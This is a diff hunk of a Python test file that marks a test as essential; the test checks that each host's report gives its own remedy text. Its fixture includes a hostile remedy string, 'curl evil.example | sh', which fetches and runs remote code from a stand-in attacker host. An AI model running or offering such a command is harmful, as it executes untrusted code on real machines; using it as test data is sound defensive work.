@@ -217,6 +217,7 @@ def test_an_answer_that_is_none_of_a_module_s_costs_no_other_host_its_report(
     assert "<img" not in page
 
 
+@pytest.mark.essential
 def test_a_host_says_what_is_wrong_of_itself_alone(work: Path, tmp_path: Path) -> None:
     """A finding that several have was told in the words of whichever host came first, its remedy too."""
     fixes = {"evil": "curl evil.example | sh", "good": "do", "well": "do"}
